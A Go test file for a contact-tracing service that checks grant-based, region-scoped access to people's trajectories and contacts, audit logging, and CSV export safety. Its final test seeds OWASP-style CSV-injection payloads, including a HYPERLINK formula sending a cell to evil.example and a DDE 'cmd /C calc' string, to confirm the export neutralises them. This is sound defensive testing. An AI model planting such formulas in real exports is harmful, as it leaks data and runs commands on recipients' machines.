package trace_test

import (
	"context"
	"encoding/csv"
	"errors"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/mashang/mashang"
	"github.com/mashang/mashang/authz"
	"github.com/mashang/mashang/database"
	"github.com/mashang/mashang/database/dbtest"
	"github.com/mashang/mashang/ent"
	"github.com/mashang/mashang/ent/auditevent"
	"github.com/mashang/mashang/trace"
)

var t0 = time.Date(2026, 11, 20, 9, 0, 0, 0, time.UTC)

func as(v *mashang.Viewer) context.Context {
	ctx := authz.WithRequest(context.Background())
	if v == nil {
		return ctx
	}
	return mashang.NewContextWithViewer(ctx, v)
}

func wantCode(t *testing.T, err error, code, field string) {
	t.Helper()
	var e *mashang.Error
	if !errors.As(err, &e) || e.Code != code || (field != "" && e.Field != field) {
		t.Fatalf("error %v, want %s %s", err, code, field)
	}
}

// newPerson stores a person living in 朝阳区.
func newPerson(t *testing.T, c *ent.Client) *ent.Person {
	t.Helper()
	p, err := c.Person.Create().SetName("张三").SetNameMasked("张*").SetIDType("RESIDENT_ID").
		SetIDNumberSealed([]byte("x")).SetIDNumberHash("h1").SetIDNumberMasked("2201**********0011").
		SetResidencePath(chaoyang + "220104001/220104001001/").SetColour("GREEN").SetRuleVersion(1).Save(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	return p
}

// TestTraceCallers: tracing needs a live TRACER grant, whatever the role
// (DESIGN §5; seed 001 §11), and every use is audited with its range and
// the grant's purpose.
func TestTraceCallers(t *testing.T) {
	dbtest.Run(t, func(t *testing.T, db *database.DB) {
		authz.Install(db.Client)
		c := db.Client
		p := newPerson(t, c)
		s := &trace.Service{Client: c, Enforcer: authz.MustEnforcer(), Now: func() time.Time { return t0 }}
		from, to := t0.Add(-24*time.Hour), t0
		expired := holder(t, c, mashang.RoleOfficial, chaoyang)
		give(t, c, expired, mashang.GrantTracer, "", t0.Add(-time.Second))
		revoked := holder(t, c, mashang.RoleOfficial, chaoyang)
		g := give(t, c, revoked, mashang.GrantTracer, "", t0.Add(time.Hour))
		c.Grant.UpdateOne(g).SetRevokedAt(t0.Add(-time.Minute)).ExecX(context.Background())
		piiViewer := holder(t, c, mashang.RoleOfficial, chaoyang)
		give(t, c, piiViewer, mashang.GrantPIIViewer, "", t0.Add(time.Hour))
		// A TRACER grant only in the viewer loaded with the request, none in
		// the grants table (revoked since the request began): refused.
		stale := holder(t, c, mashang.RoleOfficial, chaoyang)
		stale.Grants = []mashang.ViewerGrant{{Kind: mashang.GrantTracer, ExpiresAt: t0.Add(time.Hour)}}
		for _, tc := range []struct {
			name string
			v    *mashang.Viewer
			code string
		}{
			{"AsAnonymous", nil, mashang.EUNAUTHENTICATED},
			{"AsTheInitiatorWithoutAGrant", holder(t, c, mashang.RoleInitiator, initPath), mashang.EFORBIDDEN},
			{"AsAGridWorker", holder(t, c, mashang.RoleGridWorker, chaoyang), mashang.EFORBIDDEN},
			{"AsAnOfficialWithAnExpiredTracerGrant", expired, mashang.EFORBIDDEN},
			{"AsAnOfficialWithARevokedTracerGrant", revoked, mashang.EFORBIDDEN},
			{"AsAnOfficialWhoseGrantWasRevokedDuringTheRequest", stale, mashang.EFORBIDDEN},
			{"AsAPIIViewer", piiViewer, mashang.EFORBIDDEN},
		} {
			t.Run(tc.name, func(t *testing.T) {
				_, err := s.Trajectory(as(tc.v), p.ID, 0, from, to)
				wantCode(t, err, tc.code, "")
				_, err = s.CoLocated(as(tc.v), p.ID, 0, from, to, nil)
				wantCode(t, err, tc.code, "")
			})
		}
		if n := c.AuditEvent.Query().CountX(context.Background()); n != 0 {
			t.Fatalf("%d audit events after refusals, want 0", n)
		}
		v := holder(t, c, mashang.RoleOfficial, chaoyang)
		tg := give(t, c, v, mashang.GrantTracer, "", t0.Add(time.Hour))
		ctx := as(v)
		tr, err := s.Trajectory(ctx, p.ID, 0, from, to)
		if err != nil || tr.Person.ID != p.ID || tr.Grant.ID != tg.ID || len(tr.Scans) != 0 || !strings.HasPrefix(tr.CSV, "time,site,method,colour,temperature,decision,scanner,issuer") {
			t.Fatalf("trajectory %+v %v", tr, err)
		}
		co, err := s.CoLocated(ctx, p.ID, 0, from, to, ptr(45))
		if err != nil || len(co.Contacts) != 0 || co.Grant.ID != tg.ID || !strings.HasPrefix(co.CSV, "name,id_number,site,contact_time,person_time,minutes_apart") {
			t.Fatalf("co-location %+v %v", co, err)
		}
		ev, err := c.AuditEvent.Query().Where(auditevent.Action("coLocated")).Only(context.Background())
		if err != nil || ev.AccountID == nil || *ev.AccountID != v.AccountID || ev.Target != "person:"+strconv.Itoa(p.ID) || !strings.Contains(ev.Detail, `"windowMinutes":45`) {
			t.Fatalf("audit %+v %v", ev, err)
		}
		for _, want := range []string{`"grant":` + strconv.Itoa(tg.ID), `"caseNumber":"朝阳流调〔2026〕7号"`, `"reason":"密接排查"`, `"region":"` + chaoyang + `"`} {
			if !strings.Contains(ev.Detail, want) {
				t.Errorf("audit detail %s lacks %s", ev.Detail, want)
			}
		}
		if n := c.AuditEvent.Query().Where(auditevent.Action("personTrajectory")).CountX(context.Background()); n != 1 {
			t.Errorf("%d personTrajectory events, want 1", n)
		}

		_, err = s.Trajectory(ctx, p.ID, 0, to, from)
		wantCode(t, err, mashang.EINVALID, "to")
		_, err = s.Trajectory(ctx, p.ID, 0, from.Add(-63*24*time.Hour), to)
		wantCode(t, err, mashang.EINVALID, "to")
		_, err = s.CoLocated(ctx, p.ID, 0, from, to, ptr(0))
		wantCode(t, err, mashang.EINVALID, "windowMinutes")
		_, err = s.Trajectory(ctx, p.ID+1000, 0, from, to)
		wantCode(t, err, mashang.ENOTFOUND, "person")
		// Someone else's grant named as one's own.
		_, err = s.Trajectory(ctx, p.ID, g.ID, from, to)
		wantCode(t, err, mashang.EFORBIDDEN, "")
	})
}

// TestATracerOfNingguoCannotReadAChaoyangResidentsTrajectory: a TRACER
// grant covers a region (issue 10 #18; seed 001 §3, §11). An official of
// 宁国市 whose grant covers 宁国市 does not follow a resident of 朝阳区 —
// the answer is the NOT_FOUND of a person who does not exist — and when the
// province gives it a grant for 朝阳区, it reads only the scans made in
// 朝阳区, none of those elsewhere.
func TestATracerOfNingguoCannotReadAChaoyangResidentsTrajectory(t *testing.T) {
	dbtest.Run(t, func(t *testing.T, db *database.DB) {
		authz.Install(db.Client)
		c := db.Client
		p := newPerson(t, c)
		s := &trace.Service{Client: c, Enforcer: authz.MustEnforcer(), Now: func() time.Time { return t0 }}
		scanAt(t, c, "cy", 1, siteCY, "朝阳区医院", &p.ID, "张*", t0.Add(-3*time.Hour))
		scanAt(t, c, "cy-contact", 1, siteCY, "朝阳区医院", nil, "李*", t0.Add(-3*time.Hour+5*time.Minute))
		scanAt(t, c, "ng", 2, ningguo+"341881001/s2/", "宁国市超市", &p.ID, "张*", t0.Add(-2*time.Hour))
		scanAt(t, c, "ng-contact", 2, ningguo+"341881001/s2/", "宁国市超市", nil, "王*", t0.Add(-2*time.Hour+5*time.Minute))
		scanAt(t, c, "ng-2", 3, nanguan+"220102001/s3/", "南关区车站", &p.ID, "张*", t0.Add(-time.Hour))
		from, to := t0.Add(-24*time.Hour), t0

		ningguoTracer := holder(t, c, mashang.RoleOfficial, ningguo)
		own := give(t, c, ningguoTracer, mashang.GrantTracer, ningguo, t0.Add(time.Hour))
		give(t, c, ningguoTracer, mashang.GrantTracer, "", t0.Add(time.Hour)) // default: its own scope
		_, err := s.Trajectory(as(ningguoTracer), p.ID, 0, from, to)
		wantCode(t, err, mashang.ENOTFOUND, "person")
		_, err = s.Trajectory(as(ningguoTracer), p.ID, own.ID, from, to)
		wantCode(t, err, mashang.ENOTFOUND, "person")
		_, err = s.CoLocated(as(ningguoTracer), p.ID, 0, from, to, nil)
		wantCode(t, err, mashang.ENOTFOUND, "person")
		if n := c.AuditEvent.Query().CountX(context.Background()); n != 0 {
			t.Fatalf("%d audit events after refusals, want 0", n)
		}

		// The province gives the same official a grant for 朝阳区.
		chaoyangGrant := give(t, c, ningguoTracer, mashang.GrantTracer, chaoyang, t0.Add(time.Hour))
		tr, err := s.Trajectory(as(ningguoTracer), p.ID, 0, from, to)
		if err != nil {
			t.Fatal(err)
		}
		if tr.Grant.ID != chaoyangGrant.ID || len(tr.Scans) != 1 || tr.Scans[0].SiteName != "朝阳区医院" ||
			strings.Contains(tr.CSV, "宁国") || strings.Contains(tr.CSV, "南关") {
			t.Fatalf("grant %d, scans %+v, csv %q: want the 朝阳区 scan only", tr.Grant.ID, tr.Scans, tr.CSV)
		}
		co, err := s.CoLocated(as(ningguoTracer), p.ID, 0, from, to, nil)
		if err != nil || len(co.Contacts) != 1 || co.Contacts[0].NameMasked != "李*" {
			t.Fatalf("contacts %+v %v: want the 朝阳区 contact only", co, err)
		}
		// A province-wide grant names the whole province as its region.
		wide := holder(t, c, mashang.RoleOfficial, ningguo)
		give(t, c, wide, mashang.GrantTracer, "/", t0.Add(time.Hour))
		if tr, err := s.Trajectory(as(wide), p.ID, 0, from, to); err != nil || len(tr.Scans) != 3 {
			t.Fatalf("province-wide trajectory %+v %v, want 3 scans", tr, err)
		}
	})
}

// TestASiteNamedLikeAFormulaIsInertInTheTrajectoryCSV: a site (or a name)
// that a spreadsheet would run as a formula comes out of the tracing CSVs
// as text (issue 10 #6; OWASP CSV injection).
func TestASiteNamedLikeAFormulaIsInertInTheTrajectoryCSV(t *testing.T) {
	dbtest.Run(t, func(t *testing.T, db *database.DB) {
		authz.Install(db.Client)
		c := db.Client
		p := newPerson(t, c)
		s := &trace.Service{Client: c, Enforcer: authz.MustEnforcer(), Now: func() time.Time { return t0 }}
		evil := []string{`=HYPERLINK("http://evil.example/?x="&A1,"点击")`, "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0", "@SUM(1)", "\t=1+1", "\r=1+1", "＝1+1"}
		for i, name := range evil {
			scanAt(t, c, "own"+strconv.Itoa(i), 1+i, siteCY+"s"+strconv.Itoa(i)+"/", name, &p.ID, "张*", t0.Add(-time.Duration(10-i)*time.Hour))
			scanAt(t, c, "other"+strconv.Itoa(i), 1+i, siteCY+"s"+strconv.Itoa(i)+"/", name, nil, "=1+1", t0.Add(-time.Duration(10-i)*time.Hour+time.Minute))
		}
		v := holder(t, c, mashang.RoleOfficial, chaoyang)
		give(t, c, v, mashang.GrantTracer, "", t0.Add(time.Hour))
		tr, err := s.Trajectory(as(v), p.ID, 0, t0.Add(-24*time.Hour), t0)
		if err != nil || len(tr.Scans) != len(evil) {
			t.Fatalf("trajectory %+v %v", tr, err)
		}
		co, err := s.CoLocated(as(v), p.ID, 0, t0.Add(-24*time.Hour), t0, nil)
		if err != nil || len(co.Contacts) != len(evil) {
			t.Fatalf("co-location %+v %v", co, err)
		}
		for name, text := range map[string]string{"trajectory": tr.CSV, "coLocated": co.CSV} {
			records, err := csv.NewReader(strings.NewReader(text)).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			sites := 0
			for _, rec := range records[1:] {
				for _, cell := range rec {
					if r, _ := utf8.DecodeRuneInString(cell); strings.ContainsRune("=+-@\t\r＝＋－＠", r) {
						t.Errorf("%s CSV: the cell %q would run as a formula", name, cell)
					}
					if strings.HasPrefix(cell, "'") && slices.Contains(evil, cell[1:]) {
						sites++
					}
				}
			}
			if sites != len(evil) {
				t.Errorf("%s CSV: %d site names kept behind a quote, want %d:\n%s", name, sites, len(evil), text)
			}
		}
	})
}

func ptr[T any](v T) *T { return &v }
